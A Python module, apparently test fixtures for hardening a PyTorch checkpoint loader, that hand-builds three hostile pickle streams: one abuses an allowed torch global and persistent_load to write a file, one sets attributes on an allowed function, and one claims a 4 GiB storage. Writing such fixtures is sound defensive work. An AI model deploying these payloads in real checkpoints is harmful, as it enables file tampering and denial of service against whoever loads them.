"""Hostile checkpoints built byte by byte: what each would do if a loader let it."""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path

import torch

P = pickle


def _unicode(text: str) -> bytes:
    data = text.encode()
    return P.BINUNICODE + len(data).to_bytes(4, "little") + data


def _legacy_head() -> tuple[bytes, bytes]:
    """(magic + protocol + sys-info pickles, the data pickle) of a genuine legacy torch stream."""
    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buffer, _use_new_zipfile_serialization=False)
    data = buffer.getvalue()
    stream = io.BytesIO(data)
    for _ in range(3):
        pickle.load(stream)
    return data[: stream.tell()], data[stream.tell():]


def legacy_patch_writer(path: Path, target: Path) -> Path:
    """A legacy stream whose data pickle gives ``torch._utils._rebuild_tensor_v2`` (an allowed global) the
    attributes ``__name__ = target`` and ``dump_patches = True`` by ``BUILD``, then hands it to torch's legacy
    ``persistent_load`` as a ``("module", fn, file, source)`` record: torch would write ``<target>.patch``."""
    head, _ = _legacy_head()
    payload = (b"\x80\x02" + P.GLOBAL + b"torch._utils\n_rebuild_tensor_v2\n"
               + P.NONE + P.EMPTY_DICT + P.MARK + _unicode("__name__") + _unicode(str(target))
               + _unicode("dump_patches") + P.NEWTRUE + P.SETITEMS + P.TUPLE2 + P.BUILD
               + P.BINPUT + b"\x00" + P.POP
               + P.MARK + _unicode("module") + P.BINGET + b"\x00" + _unicode("x.py\n") + _unicode("HACKED\n")
               + P.TUPLE + P.BINPERSID + P.STOP)
    path.write_bytes(head + payload + pickle.dumps([], protocol=2))
    return path


def zip_build_on_function(path: Path, target: Path) -> Path:
    """A zip checkpoint whose ``data.pkl`` sets attributes on an allowed function by ``BUILD``."""
    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    payload = (b"\x80\x02" + P.GLOBAL + b"torch._utils\n_rebuild_tensor_v2\n" + P.NONE + P.EMPTY_DICT + P.MARK
               + _unicode("__name__") + _unicode(str(target)) + P.SETITEMS + P.TUPLE2 + P.BUILD + P.STOP)
    with zipfile.ZipFile(path, "w") as out:
        for info in source.infolist():
            data = payload if info.filename.endswith("data.pkl") else source.read(info)
            out.writestr(info.filename, data, compress_type=zipfile.ZIP_STORED)
    return path


def legacy_bytes_typename_storage(path: Path, claimed_elements: int = 2**30) -> Path:
    """A legacy stream whose storage record names its type as ``b"storage"`` (bytes) and claims 4 GiB."""
    buffer = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buffer, _use_new_zipfile_serialization=False)
    data = buffer.getvalue()
    marker = _unicode("storage")
    assert marker in data or b"X\x07\x00\x00\x00storage" in data
    data = data.replace(b"X\x07\x00\x00\x00storage", P.SHORT_BINBYTES + b"\x07storage", 1)
    index = data.index(b"K\x04N")  # BININT1 4 (the element count), NONE (no view)
    data = data[:index] + b"J" + claimed_elements.to_bytes(4, "little") + data[index + 2:]
    path.write_bytes(data)
    return path
